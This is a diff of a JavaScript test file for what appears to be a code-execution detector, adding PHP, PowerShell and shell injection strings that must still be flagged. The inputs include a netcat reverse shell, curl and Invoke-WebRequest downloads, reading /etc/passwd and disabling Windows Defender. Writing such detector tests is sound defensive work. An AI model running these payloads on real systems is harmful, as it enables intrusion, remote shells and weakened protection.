@@ -3267,7 +3267,7 @@ t.test("thirty-eighth round: the thirty-third and thirty-fourth parts' false pos
     for (const head of ["resource x 'Microsoft.Web/sites@2022-01-01' = {\n", "module m 'x.bicep' = {\n"]) t.ok(json({ id: 7, code: head + v }).includes('rce'), `still read: ${head}${v}`)
   }
   // (third review) PHP's `trim`, `max`, `join`, `range`, `array` and `empty` are Bicep's names too: only plain arguments or Bicep's own calls
-  for (const v of ['${trim(`touch /tmp/x`)}', '${trim($_GET[0]($_GET[1]))}', '${max(md5(1))}', "${trim(include('/tmp/x.php'))}", '${empty(`id`)}', '${max(print_r(1))}', "'${trim(include 'pw.php')}'", "${max(include_once 'pw.php', 1)}", '${trim(exit)}', "${join(require 'uploads/avatar.jpg')}"]) {
+  for (const v of ['${trim(`touch /tmp/x`)}', '${trim($_GET[0]($_GET[1]))}', '${max(md5(1))}', "${trim(include('/tmp/x.php'))}", '${empty(`id`)}', '${max(print_r(1))}', "'${trim(include 'pw.php')}'", "${max(include_once 'pw.php', 1)}", '${trim(exit)}', "${join(require 'uploads/avatar.jpg')}", "'${trim(/*}*/include '/tmp/pw.php')}'", "${trim('}'.include '/tmp/pw.php')}", '${trim(1 /*}*/, new ArrayObject)}']) {
     t.ok(json({ id: 7, code: `resource site 'Microsoft.Web/sites@2022-03-01' = {\n  name: ${v}\n}` }).includes('rce'), `still read: ${v}`)
   }
   // a static site's page that moved: a refresh to a path on the same site
@@ -3282,7 +3282,7 @@ t.test("thirty-eighth round: the thirty-third and thirty-fourth parts' false pos
   // PowerShell's pipeline after a quoted path
   t.same(json({ id: 7, snippet: '$currentVersionPath = Get-ChildItem "$poshgitPath\\*posh-git*\\" | Sort-Object -Property LastWriteTime | Select-Object -Last 1\n' }), [], "PowerShell's pipeline")
   // (review) only after a cmdlet's own line: a quote a value closes is still a break-out, and the line after it is judged
-  for (const v of ['"x" | Sort-Object -Property Name\nStart-Process calc', 'x" | Sort-Object -Property Name\nwhoami', '"x" | Select-Object -First 1 | Format-Table\nStop-Computer', '"x" | Where-Object -Property Length -GT 0\r\nid', 'Get-Item x\rwhoami\r" | Sort-Object -Property Name', 'x" -Filter a <#\nGet-ChildItem y #> | Sort-Object -Property Name\nwhoami', 'x -Filter a <#\nGet-ChildItem y #> | Select-Object -First 1\nStart-Process calc.exe', '"x" | Where-Object -Property Name -eq "a"']) {
+  for (const v of ['"x" | Sort-Object -Property Name\nStart-Process calc', 'x" | Sort-Object -Property Name\nwhoami', '"x" | Select-Object -First 1 | Format-Table\nStop-Computer', '"x" | Where-Object -Property Length -GT 0\r\nid', 'Get-Item x\rwhoami\r" | Sort-Object -Property Name', 'x" -Filter a <#\nGet-ChildItem y #> | Sort-Object -Property Name\nwhoami', 'x -Filter a <#\nGet-ChildItem y #> | Select-Object -First 1\nStart-Process calc.exe', 'Invoke-WebRequest http://127.0.0.1/s.ps1 -OutFile s.ps1 | Select-Object -First 1', 'Invoke-RestMethod http://127.0.0.1/s.ps1 | Select-Object -First 1', 'Set-MpPreference -DisableRealtimeMonitoring 1 | Select-Object -First 1', '"x" | Where-Object -Property Name -eq "a"']) {
     t.ok(q(v).includes('rce'), `still read: ${JSON.stringify(v)}`)
   }
   for (const v of ['"x" | Sort-Object -Property { Start-Process calc }', '"x" | Where-Object -FilterScript {$_.x}', '"x" | Select-Object -Property Name | Out-File -FilePath c:\\x.txt', '"x" | Sort-Object -Property Name; id', '"x" | Sort-Object -Property Name | iex', '"x" | Sort-Object $(id)']) {
@@ -3302,7 +3302,7 @@ t.test("thirty-eighth round, after the thirty-fifth part's measurement: a Coq pr
   t.same(json({ id: 7, code: 'Proof.\ncase: b1 b2 => [bb1 b1 |//] [bb2 b2 |//].\ncase: bb1; case: bb2; rewrite /= !bnd_simp mulrzDr.\n- exact: lerD.\nQed.\n' }), [], 'case analysis')
   for (const v of ['x; rewrite /leif', 'Proof. x; nc -e /bin/sh 127.0.0.1 4444. Qed.', 'Proof. x; curl -o /tmp/x http://127.0.0.1/x. Qed.', 'Proof. x; cat /etc/passwd. Qed.']) t.ok(q(v).includes('rce'), `still read: ${v}`)
   // (fourth review) `split` is coreutils' (`--filter` runs a command), `case` and `done` are the shell's; a `Qed.` anywhere is no proof
-  for (const v of ["1;split --filter='touch pw5' -n1 a.txt # Qed.", "Proof.\nx; split --filter='touch p' -n1 a.txt\nQed.", 'Qed. ; case -x in *) id;; esac', 'Proof.\nx; done -x\nQed.', 'x; rewrite -x # Qed.']) {
+  for (const v of ["1;split --filter='touch pw5' -n1 a.txt # Qed.", "Proof.\nx; split --filter='touch p' -n1 a.txt\nQed.", 'Qed. ; case -x in *) id;; esac', 'Proof.\nx; done -x\nQed.', 'x; rewrite -x # Qed.', 'Proof.\nx;apply /usr/bin/id x', 'Proof.\nx;apply -a % id /etc', 'Proof.\nx; subst /d x:']) {
     t.ok(q(v).includes('rce'), `still read: ${JSON.stringify(v)}`)
   }
   // a post's video as the site gives it to paste
